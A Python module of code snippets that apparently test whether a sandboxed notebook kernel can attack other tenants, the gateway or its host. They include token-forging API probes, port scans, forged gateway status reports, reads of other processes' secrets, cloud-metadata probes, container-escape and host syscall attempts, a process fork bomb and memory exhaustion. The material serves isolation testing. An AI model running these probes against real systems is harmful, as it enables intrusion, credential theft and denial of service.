"""What code in a kernel tries against all that it can reach; each prints what it found as JSON.

`NEIGHBOUR` is the address of another user's kernel, `NEIGHBOUR_ID` its id, `GATEWAY` that of the
gateway, `PORT` and `REPORTS` its ports, `TOKEN` that of the attacker's own agent: as if the
attacker had become that.
"""

TOOLS = """
import ctypes, http.client, json, os, pathlib, signal, socket, ssl

def ask(host, port, method, path, token=None):
    connection = http.client.HTTPConnection(host, port, timeout=20)
    headers = {} if token is None else {"Authorization": token}
    try:
        connection.request(method, path, "{}", headers)
        return connection.getresponse().status
    except (OSError, http.client.HTTPException):
        return 0
    finally:
        connection.close()

def is_open(host, port):
    with socket.socket() as peer:
        peer.settimeout(5)
        return peer.connect_ex((host, port)) == 0

def report(line, plain=False):
    try:
        with socket.create_connection((GATEWAY, REPORTS), 20) as peer:
            if not plain:
                context = ssl.create_default_context()
                context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
                peer = context.wrap_socket(peer)
            peer.sendall(line)
            answer = peer.recv(4096)
    except OSError:
        return "cut"
    return json.loads(answer)["status"] if answer else "cut"

def refused(action, *arguments):
    try:
        return action(*arguments) in (-1, None)
    except (OSError, ValueError):
        return True
"""

AGENT_OF_A_NEIGHBOUR = """
requests = [("GET", "/v1/state"), ("GET", "/v1/events"), ("GET", "/v1/log"), ("GET", "/v1/taken"),
            ("GET", "/v1/channels"), ("GET", "/v1/annotations"), ("POST", "/v1/execute"),
            ("POST", "/v1/restart"), ("POST", "/v1/shutdown"), ("POST", "/v1/take"),
            ("PUT", "/v1/annotations"), ("GET", "/"), ("GET", "/v1/state?token=" + TOKEN)]
tokens = [None, "", "Bearer ", "Bearer " + TOKEN, "token " + TOKEN, "Basic " + TOKEN]
print(json.dumps(sorted({ask(NEIGHBOUR, 8898, *request, token)
                         for request in requests for token in tokens})))
"""

PORTS_OF_A_NEIGHBOUR = """
print(json.dumps([port for port in range(1, 20_000) if is_open(NEIGHBOUR, port)]))
"""

API_OF_THE_GATEWAY = """
kernel = "/api/kernels/" + NEIGHBOUR_ID
requests = [("GET", "/api/kernels"), ("POST", "/api/kernels"), ("GET", kernel), ("DELETE", kernel),
            ("POST", kernel + "/restart"), ("POST", kernel + "/execute"), ("GET", "/metrics"),
            ("GET", kernel + "/channels"), ("GET", "/api/sessions"), ("GET", "/api/events"),
            ("GET", "/api/status"), ("GET", "/api/kernels?token=" + TOKEN)]
tokens = [None, "", "token ", "token " + TOKEN, "Bearer " + TOKEN]
print(json.dumps(sorted({ask(GATEWAY, PORT, *request, token)
                         for request in requests for token in tokens})))
"""

_REPORTS = """
import base64, secrets
own = os.environ.get("KERNEL_ID", "")

def reports(kernel_ids, tokens):
    bodies = [{"kernel_id": kernel_id, "token": token, "status": status, "version": 1,
               "listen": "tcp:0.0.0.0:8898", "reason": {"message": "forged"}}
              for kernel_id in kernel_ids for token in tokens for status in ("ready", "failed")]
    return {report(json.dumps(body).encode() + b"\\n") for body in bodies}
"""

REPORTS_OF_OTHERS = f"""{_REPORTS}
forged = ["", secrets.token_hex(32)]
answers = reports([NEIGHBOUR_ID, secrets.token_hex(16), ""], [TOKEN, *forged])
answers |= reports([own], forged)
answers |= {{report(line) for line in (b"\\n", b"[" * 60_000 + b"\\n", b"\\xff\\n", b"null\\n")}}
answers |= {{report(base64.b64encode(os.urandom(size)), plain=True) for size in (1, 632, 4096)}}
print(json.dumps(sorted(answers - {{"cut"}})))
"""

OWN_REPORT_AGAIN = f"""{_REPORTS}
print(json.dumps(sorted(reports([own], [TOKEN]))))
"""

ENGINE = """
paths = ["/var/run/docker.sock", "/run/docker.sock", "/run/enterprise-gateway", "/run/containerd"]
print(json.dumps([path for path in paths if os.path.exists(path)]
                 + [port for port in (2375, 2376, 2377, 4243) if is_open(GATEWAY, port)]))
"""

PROCESS_ONE = """
process = pathlib.Path("/proc/1")
found = [name for name in ("environ", "mem", "maps", "auxv", "stack")
         if not refused((process / name).read_bytes)]
found += [name for name in ("root", "cwd", "exe") if not refused(os.readlink, process / name)]
found += ["fd"] if not refused(os.listdir, process / "fd") else []
found += ["write"] if not refused((process / "mem").open, "r+b") else []
libc = ctypes.CDLL(None, use_errno=True)
found += ["ptrace"] if libc.ptrace(16, 1, 0, 0) == 0 else []
for number in (signal.SIGKILL, signal.SIGSTOP):
    os.kill(1, number)
print(json.dumps(found))
"""

SECRETS_OF_THE_AGENT = """
found = [str(path) for path in pathlib.Path("/proc").glob("[0-9]*/environ")
         if not refused(path.read_bytes) and b"EG_AGENT_" in path.read_bytes()]
print(json.dumps(found))
"""

METADATA_OF_THE_CLOUD = """
print(json.dumps([address for address in ("169.254.169.254", "169.254.170.2")
                  if is_open(address, 80)]))
"""

KERNEL_OF_THE_HOST = """
libc = ctypes.CDLL(None, use_errno=True)
found = []
for family, kind in ((socket.AF_PACKET, socket.SOCK_RAW), (socket.AF_INET, socket.SOCK_RAW)):
    found += [str(family)] if not refused(socket.socket, family, kind) else []
calls = {"mount": lambda: libc.mount(b"none", b"/mnt", b"tmpfs", 0, None),
         "unshare": lambda: libc.unshare(0x00020000), "setns": lambda: libc.setns(0, 0),
         "reboot": lambda: libc.reboot(0), "setuid": lambda: libc.setuid(0),
         "chroot": lambda: libc.chroot(b"/")}
found += [name for name, call in calls.items() if not refused(call)]
paths = ("/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern", "/sys/kernel/uevent_helper")
found += [path for path in paths if not refused(open, path, "w")]
print(json.dumps(found))
"""

PROCESSES = """
count = 0
try:
    while count < 2000:
        os.posix_spawn("/bin/sleep", ["sleep", "600"], os.environ)
        count += 1
except OSError:
    pass
print(json.dumps(count))
"""

MEMORY = """
eaten = []
while len(eaten) < 64:
    eaten.append(os.urandom(1) * (64 * 1024 * 1024))
print(json.dumps(len(eaten)))
"""

OUTPUT = """
for _ in range({lines}):
    print("x" * 9_999, flush=True)
"""
"""Faster than an agent on a busy machine reads: then it fills the memory of the kernel itself."""
